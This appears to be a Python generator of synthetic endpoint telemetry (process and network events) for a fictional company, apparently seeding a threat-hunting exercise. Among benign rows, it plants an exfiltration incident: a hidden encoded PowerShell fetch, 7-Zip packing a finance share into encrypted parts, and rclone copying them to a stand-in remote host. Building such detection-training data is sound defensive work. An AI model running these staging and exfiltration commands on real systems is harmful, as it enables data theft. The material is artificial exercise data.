"""Staff laptops in Log Analytics: DeviceProcessEvents, DeviceNetworkEvents."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from datetime import datetime, timedelta

from numpy.random import Generator

from data.seed.company import Company, Employee
from data.seed.incidents import Exfiltration
from data.seed.timeline import moments, one, pick, randomness, within
from data.seed.writing import Row

_PROGRAMS: dict[str, tuple[str, tuple[str, ...], str, float]] = {
    # file name: folder, command lines, parent, how common
    "chrome.exe": (
        r"C:\Program Files\Google\Chrome\Application",
        ("--type=renderer", "--type=utility", "--type=gpu-process"),
        "chrome.exe",
        26,
    ),
    "msedge.exe": (
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        ("--type=renderer", "--no-startup-window"),
        "msedge.exe",
        14,
    ),
    "Teams.exe": (r"C:\Program Files\WindowsApps\MSTeams", ("--type=renderer", "--background"), "explorer.exe", 10),
    "OUTLOOK.EXE": (r"C:\Program Files\Microsoft Office\root\Office16", ("", "/recycle"), "explorer.exe", 7),
    "EXCEL.EXE": (
        r"C:\Program Files\Microsoft Office\root\Office16",
        (r'"C:\Users\{user}\Documents\forecast.xlsx"', r'"C:\Users\{user}\Downloads\export.csv"'),
        "explorer.exe",
        5,
    ),
    "WINWORD.EXE": (
        r"C:\Program Files\Microsoft Office\root\Office16",
        (r'"C:\Users\{user}\Documents\notes.docx"',),
        "explorer.exe",
        3,
    ),
    "Code.exe": (
        r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code",
        ("--type=renderer", "."),
        "explorer.exe",
        6,
    ),
    "git.exe": (
        r"C:\Program Files\Git\cmd",
        ("pull --rebase", "status --porcelain", "fetch origin", "push origin main"),
        "Code.exe",
        7,
    ),
    "node.exe": (r"C:\Program Files\nodejs", ("server.js", r"node_modules\.bin\jest"), "cmd.exe", 3),
    "cmd.exe": (r"C:\Windows\System32", ("/c npm run build", "/c ipconfig", "/c whoami"), "explorer.exe", 3),
    "powershell.exe": (
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        (
            r"-File C:\ProgramData\larkfield\inventory.ps1",
            "-NoProfile Get-ChildItem",
            "Test-NetConnection vpn.larkfield.example -Port 1194",
        ),
        "svchost.exe",
        3,
    ),
    "svchost.exe": (r"C:\Windows\System32", ("-k netsvcs -p -s Schedule", "-k LocalService -p"), "services.exe", 7),
    "MsMpEng.exe": (r"C:\ProgramData\Microsoft\Windows Defender\Platform", ("",), "services.exe", 2),
    "ssh.exe": (
        r"C:\Windows\System32\OpenSSH",
        ("bastion-1.larkfield.example", "-J bastion-1 web-1"),
        "powershell.exe",
        1,
    ),
    "7z.exe": (r"C:\Program Files\7-Zip", (r"x C:\Users\{user}\Downloads\logs.zip",), "explorer.exe", 0.4),
    "psexec.exe": (r"C:\Tools\Sysinternals", (r"\\{laptop} cmd.exe",), "cmd.exe", 0.03),
}
_SYSTEM = ("svchost.exe", "MsMpEng.exe")
_SITES = {
    "teams.cloud.example": ("Teams.exe", 24), "mail.cloud.example": ("OUTLOOK.EXE", 18),
    "git.larkfield.example": ("git.exe", 9), "jira.larkfield.example": ("chrome.exe", 12),
    "news.weather.example": ("msedge.exe", 8), "cdn.static.example": ("chrome.exe", 16),
    "registry.packages.example": ("node.exe", 4), "update.defender.example": ("MsMpEng.exe", 4),
    "maps.travel.example": ("chrome.exe", 3), "files.sharepoint.example": ("EXCEL.EXE", 6),
}  # fmt: skip


def process_events(company: Company, scale: float) -> list[Row]:
    rng = randomness("processes")
    count = int(24000 * scale)
    programs = pick(rng, list(_PROGRAMS), count, [common for *_, common in _PROGRAMS.values()])
    people = pick(rng, _with_laptops(company), count)
    rows = []
    for moment, program, person in zip(moments(rng, count, "office"), programs, people, strict=True):
        folder, arguments, parent, _ = _PROGRAMS[program]
        line = one(rng, arguments).format(user=person.account, laptop=person.laptop)
        rows.append(_process(rng, moment, person, program, folder.format(user=person.account), line, parent))
    rows += _exfiltration_processes(rng, company.by_account[Exfiltration.ACCOUNT])
    return sorted(rows, key=lambda row: row["TimeGenerated"])


def _with_laptops(company: Company) -> list[Employee]:
    return [person for person in company.employees if not person.left_on or person.account == Exfiltration.ACCOUNT]


def _process(
    rng: Generator, moment: datetime, person: Employee, program: str, folder: str, arguments: str, parent: str
) -> Row:
    system = program in _SYSTEM
    return {
        "TimeGenerated": moment,
        "DeviceName": person.laptop,
        "ActionType": "ProcessCreated",
        "FileName": program,
        "FolderPath": f"{folder}\\{program}",
        "ProcessCommandLine": f"{program} {arguments}".strip(),
        "ProcessId": int(rng.integers(600, 32000)),
        "AccountName": "system" if system else person.account,
        "AccountDomain": "nt authority" if system else "larkfield",
        "SHA256": hashlib.sha256(f"{folder if 'Users' not in folder else ''}{program}".encode()).hexdigest(),
        "InitiatingProcessFileName": parent,
        "InitiatingProcessCommandLine": parent,
    }


def _exfiltration_processes(rng: Generator, person: Employee) -> Iterator[Row]:
    """An encoded PowerShell fetches rclone, 7-Zip packs the share in parts, rclone copies each part away."""
    start, temp = Exfiltration.START, rf"C:\Users\{person.account}\AppData\Local\Temp"
    shell = _PROGRAMS["powershell.exe"][0]
    encoded = "-NoProfile -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA=="
    yield _process(rng, start, person, "powershell.exe", shell, encoded, "explorer.exe")
    yield _process(rng, start + timedelta(minutes=2), person, "powershell.exe", shell, encoded, "powershell.exe")
    for part in range(1, 25):
        moment = start + timedelta(minutes=4 + 3 * part, seconds=int(rng.integers(0, 50)))
        packing = rf"a -p -mhe=on {temp}\q{part:02d}.7z \\files\finance\closing\{2020 + part % 6}"
        yield _process(rng, moment, person, "7z.exe", r"C:\Program Files\7-Zip", packing, "powershell.exe")
        copying = rf"copy {temp}\q{part:02d}.7z dropyard:in --transfers 8 --config {temp}\r.conf"
        yield _process(rng, moment + timedelta(seconds=70), person, "rclone.exe", temp, copying, "powershell.exe")


def network_events(company: Company, scale: float) -> list[Row]:
    rng = randomness("network")
    count = int(26000 * scale)
    sites = pick(rng, list(_SITES), count, [weight for _, weight in _SITES.values()])
    people = pick(rng, _with_laptops(company), count)
    rows = []
    for moment, site, person in zip(moments(rng, count, "office"), sites, people, strict=True):
        program = _SITES[site][0]
        internal = site.endswith("larkfield.example")
        address = f"10.10.1.{40 + len(site) % 9}" if internal else f"203.0.113.{100 + len(site) * 3 % 90}"
        failed = rng.random() < 0.015
        rows.append(_connection(rng, moment, person, program, program, address, site, failed=failed))
    rows += _exfiltration_connections(rng, company.by_account[Exfiltration.ACCOUNT])
    return sorted(rows, key=lambda row: row["TimeGenerated"])


def _connection(
    rng: Generator, moment: datetime, person: Employee, program: str, line: str, address: str, site: str, *,
    failed: bool = False,
) -> Row:  # fmt: skip
    video = program == "Teams.exe" and rng.random() < 0.3
    return {
        "TimeGenerated": moment,
        "DeviceName": person.laptop,
        "ActionType": "ConnectionFailed" if failed else "ConnectionSuccess",
        "RemoteIP": address,
        "RemotePort": 3478 if video else 22 if program == "git.exe" else 443,
        "RemoteUrl": None if video else site,
        "RemoteIPType": "Private" if address.startswith("10.") else "Public",
        "LocalIP": person.laptop_ip,
        "LocalPort": int(rng.integers(49152, 65535)),
        "Protocol": "Udp" if video else "Tcp",
        "InitiatingProcessFileName": program,
        "InitiatingProcessCommandLine": line,
        "InitiatingProcessAccountName": "system" if program in _SYSTEM else person.account,
    }


def _exfiltration_connections(rng: Generator, person: Employee) -> Iterator[Row]:
    start = Exfiltration.START
    yield _connection(
        rng, start + timedelta(seconds=30), person, "powershell.exe", "powershell.exe -NoProfile -EncodedCommand",
        "192.0.2.150", "get.toolbox.example",
    )  # fmt: skip
    for moment in within(rng, 412, start + timedelta(minutes=8), Exfiltration.END):
        yield _connection(
            rng, moment, person, "rclone.exe", "rclone.exe copy dropyard:in --transfers 8", Exfiltration.ADDRESS,
            Exfiltration.SITE, failed=bool(rng.random() < 0.03),
        )  # fmt: skip
